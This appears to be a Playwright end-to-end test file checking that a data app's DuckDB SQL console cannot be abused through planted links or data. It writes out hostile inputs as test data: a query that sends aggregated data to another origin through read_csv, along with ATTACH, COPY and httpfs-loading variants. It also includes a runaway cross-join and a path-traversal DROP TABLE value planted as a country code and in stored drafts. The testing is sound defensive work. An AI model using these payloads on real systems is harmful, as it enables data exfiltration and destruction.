// Links an attacker could send or plant: a /sql?q= link that would send the loaded data to another
// origin, one that would falsify every figure, a long query, and a State's code or a meeting made into
// a path. None may run SQL by being opened, reach another origin, or change what the pages show.
import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { csvFile, rowCount, waitUntil } from './helpers';

/** A real server on another port of this machine: whatever reaches it is recorded. */
async function listener(): Promise<{ port: number; hits: string[]; close: () => Promise<void> }> {
	const hits: string[] = [];
	const server = http.createServer((req, res) => {
		hits.push(req.url ?? '');
		res.setHeader('access-control-allow-origin', '*');
		res.end('a\n1\n');
	});
	await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
	return { port: (server.address() as AddressInfo).port, hits, close: () => new Promise((r) => server.close(() => r())) };
}

async function openLinked(page: Page, sql: string) {
	await page.goto('/sql?q=' + encodeURIComponent(sql));
	await page.locator('[data-testid="sql-linked"]').waitFor();
	expect(await page.locator('[data-testid="sql-text"]').inputValue()).toBe(sql);
	await waitUntil(page, 'the data are loaded', () => performance.getEntriesByName('data-ready').length > 0);
}

async function run(page: Page, sql?: string) {
	if (sql !== undefined) await page.locator('[data-testid="sql-text"]').fill(sql);
	await page.locator('[data-testid="sql-run"]').click();
	await waitUntil(page, 'the query has an answer', () => !!document.querySelector('[data-testid="sql-count"], [data-testid="sql-error"]'));
}

const firstCell = (page: Page) => page.locator('[data-testid="sql-result"] tbody td').first().textContent();

test.describe('SQL links', () => {
	test('the exfiltration link is shown, not run; run, it reaches no other origin', async ({ page, recorder }) => {
		const server = await listener();
		try {
			const sql = `SET VARIABLE u=(SELECT 'http://127.0.0.1:${server.port}/x.csv?d='||string_agg(iso3,'-') FROM states); SELECT * FROM read_csv(getvariable('u'))`;
			await openLinked(page, sql);
			await page.waitForTimeout(500);
			await expect(page.locator('[data-testid="sql-result"], [data-testid="sql-error"], [data-testid="sql-running"]')).toHaveCount(0);
			expect(server.hits, 'opening the link sends nothing').toEqual([]);

			await run(page);
			await expect(page.locator('[data-testid="sql-error"]')).toContainText('Permission Error');
			// The same through other readers and statements.
			for (const q of [
				`SELECT * FROM read_csv('http://127.0.0.1:${server.port}/y.csv')`,
				`SELECT * FROM read_text('http://127.0.0.1:${server.port}/z')`,
				`ATTACH 'http://127.0.0.1:${server.port}/db.duckdb' AS other`,
				`COPY states TO 'http://127.0.0.1:${server.port}/out.csv'`,
				'INSTALL httpfs; LOAD httpfs',
				'SET enable_external_access = true'
			]) {
				await run(page, q);
				await expect(page.locator('[data-testid="sql-error"]'), q).toBeVisible();
			}
			await page.waitForTimeout(500);
			expect(server.hits, 'nothing reached the other origin').toEqual([]);
			expect(recorder.foreign).toEqual([]);
		} finally {
			await server.close();
		}
	});

	test('the temp-table and DROP links change the console’s copy only: no figure on any page changes', async ({ page, context }) => {
		// The figures as the pages show them, in a page of their own.
		const reference = await context.newPage();
		await reference.goto('/actions/21');
		const movers = reference.locator('[data-testid="movers"]');
		await movers.waitFor();
		const before = await movers.textContent();
		assert.match(before ?? '', /\d/, 'the movers panel shows figures');
		await reference.close();

		await openLinked(page, 'CREATE TEMP TABLE indicator_values AS SELECT * REPLACE (value*10 AS value) FROM main.indicator_values');
		await run(page);
		await expect(page.locator('[data-testid="sql-count"]')).toBeVisible();
		await run(page, 'SELECT round((SELECT sum(value) FROM indicator_values) / (SELECT sum(value) FROM memory.main.indicator_values)) AS ratio');
		expect((await firstCell(page))?.trim(), 'the console sees its own ten-fold copy').toBe('10');
		await run(page, 'DROP TABLE main.states');
		await expect(page.locator('[data-testid="sql-count"]')).toBeVisible();

		// Within the same app (client-side navigation): the pages read the loaded tables, untouched.
		await page.locator('header nav a[href$="/"]').first().click();
		await page.locator('[data-action="21"] a').first().click();
		await page.locator('[data-testid="movers"]').waitFor();
		expect(await page.locator('[data-testid="movers"]').textContent()).toBe(before);
		await page.locator('header nav a[href$="countries"]').click();
		await page.locator('[data-testid="country-table"] tbody tr').first().waitFor();
		expect(await page.locator('[data-testid="country-table"] tbody tr').count()).toBeGreaterThan(100);
	});

	test('a long query shows that it runs and is cancelled at once; pages do not wait for it', async ({ page }) => {
		await openLinked(page, 'SELECT count(*) FROM range(1000000000) a, range(1000000000) b WHERE a.range + b.range = 7');
		await page.locator('[data-testid="sql-run"]').click();
		await expect(page.locator('[data-testid="sql-running"]')).toContainText('Running');
		await expect(page.locator('[data-testid="sql-run"]')).toBeDisabled();
		await page.waitForTimeout(1500);
		await expect(page.locator('[data-testid="sql-running"]')).toBeVisible();
		await page.locator('[data-testid="sql-cancel"]').click();
		await expect(page.locator('[data-testid="sql-cancelled"]')).toBeVisible({ timeout: 2000 });
		await expect(page.locator('[data-testid="sql-running"]')).toHaveCount(0);
		await run(page, 'SELECT 42 AS answer');
		expect((await firstCell(page))?.trim()).toBe('42');

		// Started again and left running: another page of the app answers meanwhile.
		await run(page, 'SELECT 1');
		await page.locator('[data-testid="sql-text"]').fill('SELECT count(*) FROM range(1000000000) a, range(1000000000) b WHERE a.range + b.range = 7');
		await page.locator('[data-testid="sql-run"]').click();
		await expect(page.locator('[data-testid="sql-running"]')).toBeVisible();
		await page.locator('header nav a[href$="countries"]').click();
		await page.locator('[data-testid="country-table"] tbody tr').first().waitFor({ timeout: 10_000 });
	});
});

test.describe('identifiers from data are data', () => {
	test.use({ dialogs: 'accept' });

	test('a State whose code is “../../sql?q=DROP TABLE states” cannot run SQL', async ({ page }) => {
		const hostile = '../../sql?q=DROP TABLE states';
		await page.goto('/data');
		await waitUntil(page, 'the bundled data are in', () => Number(document.querySelector('[data-testid="rows-states"]')?.textContent?.replace(/\D/g, '')) > 0);
		const states = await rowCount(page, 'states');
		await page.locator('[data-testid="file-input"]').setInputFiles([csvFile('hostile-states.csv', `iso3,name,region,source\n"${hostile}",Hostile Land,Europe,e2e test\n`)]);
		await page.locator('[data-testid="load-ok"], [data-testid="load-error"]').first().waitFor();
		if (await page.locator('[data-testid="load-error"]').count()) {
			// Where codes are checked on load (three capital letters), the file is refused, nothing added.
			await expect(page.locator('[data-testid="load-error"]')).toContainText('iso3');
			expect(await rowCount(page, 'states')).toBe(states);
			return;
		}
		await page.locator('header nav a[href$="countries"]').click();
		const row = page.locator('[data-testid="country-table"] tbody tr', { hasText: 'Hostile Land' });
		await row.waitFor();
		const href = await row.locator('a').first().getAttribute('href');
		expect(new URL(href!, page.url()).pathname).toBe('/countries/..%2F..%2Fsql%3Fq%3DDROP%20TABLE%20states');
		// No link on the page leads to the console.
		const paths = await page.locator('main a[href]').evaluateAll((as) => as.map((a) => new URL((a as HTMLAnchorElement).href).pathname));
		expect(paths.filter((p) => p.endsWith('/sql'))).toEqual([]);
		await row.locator('a').first().click();
		await page.waitForURL((u) => u.pathname.startsWith('/countries/'));
		await expect(page.locator('[data-testid="sql-text"]')).toHaveCount(0);
		await page.locator('header nav a[href$="data"]').click();
		await waitUntil(page, '/data shows the States', () => !!document.querySelector('[data-testid="rows-states"]'));
		expect(await rowCount(page, 'states'), 'no DROP ran: the States are all there').toBe(states + 1);
	});

	test('drafts kept with a planted meeting or State code are listed; their links stay on the draft page', async ({ page }) => {
		const hostile = '../../sql?q=DROP TABLE states';
		await page.goto('/committees');
		await page.evaluate(async (drafts) => {
			const db = await new Promise<IDBDatabase>((resolve, reject) => {
				const req = indexedDB.open('oap-observations');
				req.onupgradeneeded = () => req.result.createObjectStore('drafts');
				req.onsuccess = () => resolve(req.result);
				req.onerror = () => reject(req.error);
			});
			const tx = db.transaction('drafts', 'readwrite');
			for (const d of drafts) tx.objectStore('drafts').put(d, `${d.meeting}|${d.committee}|${d.iso3}`);
			await new Promise((r) => (tx.oncomplete = r));
			db.close();
		}, [
			{ meeting: hostile, committee: 'article5', iso3: 'KHM', status: 'draft', text: 'Planted meeting.', actions: {}, updated_at: '', author: '' },
			{ meeting: 'IM2024', committee: 'article5', iso3: hostile, status: 'draft', text: 'Planted State.', actions: {}, updated_at: '', author: '' }
		]);
		await page.goto('/committees/article5?meeting=IM2024');
		const held = page.locator('[data-testid="drafts-elsewhere"]');
		await held.waitFor();
		await expect(held).toContainText('Planted meeting.');
		await expect(held).toContainText('Planted State.');
		await expect(held.locator('[data-testid="elsewhere-open"]'), 'a State not in the data gets no editor link').toHaveCount(1);
		const open = held.locator('[data-testid="elsewhere-open"]');
		const url = new URL((await open.getAttribute('href'))!, page.url());
		expect(url.pathname).toBe('/committees/article5/draft');
		expect(Object.fromEntries(url.searchParams)).toEqual({ meeting: hostile, state: 'KHM' });
		await open.click();
		await page.waitForURL((u) => u.pathname === '/committees/article5/draft');
		await page.locator('[data-testid="obs-text"]').waitFor();
		expect(await page.inputValue('[data-testid="obs-text"]')).toBe('Planted meeting.');
		await expect(page.locator('[data-testid="sql-text"]')).toHaveCount(0);
	});
});
